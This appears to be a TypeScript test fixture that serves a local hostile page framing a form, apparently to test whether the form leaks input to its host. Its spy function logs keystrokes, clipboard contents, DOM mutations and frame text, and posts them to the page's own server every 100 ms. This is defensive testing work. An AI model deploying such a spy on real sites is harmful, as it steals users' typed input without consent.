/**
 * A site that wants to know what is written in a frame on it. It takes the frame without any sandbox of its own, and
 * listens to all it can.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { json } from 'node:stream/consumers';

export interface HostileSite {
  /** The page with the form in a frame. */
  readonly framing: string;
  /** The page with a field of its own in a closed shadow root: what a form drawn by a script would be. */
  readonly control: string;
  /** What the page that is open, or was last, has told its owner so far. */
  toldHome(): Learnt;
  stop(): Promise<void>;
}

/** Keeps every character it can get hold of, and everything else as a line of what it was. */
function spy(): void {
  const learnt = { characters: '', others: [] as string[] };
  Object.assign(window, { learnt });
  const take = (what: string, text: unknown): void => {
    if (typeof text === 'string' && [...text].length === 1) learnt.characters += text;
    else learnt.others.push(`${what} ${String(text)}`);
  };
  const events = [
    ...['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'textInput'],
    ...['compositionstart', 'compositionupdate', 'compositionend', 'copy', 'cut', 'paste'],
    ...[
      'message',
      'messageerror',
      'selectionchange',
      'select',
      'submit',
      'storage',
      'hashchange',
      'popstate',
    ],
  ];
  for (const target of [window, document])
    for (const type of events)
      target.addEventListener(
        type,
        (event) => {
          const { key, data, clipboardData } = event as unknown as {
            key?: unknown;
            data?: unknown;
            clipboardData?: DataTransfer;
          };
          take(type, key ?? data ?? clipboardData?.getData('text') ?? String(getSelection()));
        },
        true,
      );
  // Where the focus goes is learnt and may be: it says that something is done, not what.
  new MutationObserver((changes) => {
    for (const { target } of changes) take('mutation', (target as Element).textContent);
  }).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
  new PerformanceObserver((list) => {
    for (const { name } of list.getEntries()) if (name.includes('/v1/')) take('request', name);
  }).observe({ type: 'resource' });
  setInterval(() => {
    const frame = document.querySelector('iframe');
    for (const look of [
      () => frame?.contentDocument?.body.innerText,
      () => frame?.contentWindow?.document.body.innerText,
      () => frame?.contentWindow?.getSelection()?.toString(),
      () => frame?.contentWindow?.location.href,
      () => frame?.contentWindow?.name,
    ]) {
      try {
        const seen = look();
        // Until it has come, a frame is a blank page of the site's own.
        if (seen && seen !== 'about:blank') take('looked', seen);
      } catch {
        // Refused.
      }
    }
    frame?.contentWindow?.postMessage({ type: 'focus' }, '*');
  }, 50);
  setInterval(() => void fetch('/hjem', { method: 'POST', body: JSON.stringify(learnt) }), 100);
}

const html = (body: string): string =>
  `<!doctype html><html lang="nb"><meta charset="utf-8"><title>Vert</title><body><h1>Vert</h1>${body}<script>(${spy.toString()})()</script></body></html>`;

/** @param form address of the form */
export async function hostileSite(form: string): Promise<HostileSite> {
  const pages: Readonly<Record<string, string>> = {
    '/ramme': html(
      `<iframe title="Skjema" src="${form}" width="380" height="1500" allow="clipboard-read; clipboard-write"></iframe>`,
    ),
    '/egen': html(`<div id="own"></div><script>
      document.getElementById('own').attachShadow({ mode: 'closed' }).innerHTML = '<textarea autofocus style="box-sizing: border-box; width: 100%; height: 8em"></textarea>';
    </script>`),
  };
  let told: Learnt = { characters: '', others: [] };
  const server = createServer((request, response) => {
    if (request.method === 'POST') {
      void json(request).then((learnt) => {
        told = learnt as Learnt;
        response.writeHead(204).end();
      });
      return;
    }
    const page = pages[request.url ?? ''];
    response.writeHead(page === undefined ? 404 : 200, { 'Content-Type': 'text/html; charset=utf-8' });
    response.end(page);
  }).listen(0, '127.0.0.1');
  await new Promise((done) => server.once('listening', done));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    framing: `${origin}/ramme`,
    control: `${origin}/egen`,
    toldHome: () => told,
    stop: () =>
      new Promise((done) => {
        server.close(() => done());
        server.closeAllConnections();
      }),
  };
}

export interface Learnt {
  readonly characters: string;
  readonly others: readonly string[];
}

/** Letters that no browser, page or spy would say of itself: each comes in its own order. */
export const secretText = (length: number): string =>
  Array.from({ length }, (_, at) => String.fromCodePoint(97 + ((at * 7 + (at >> 3)) % 26))).join('');
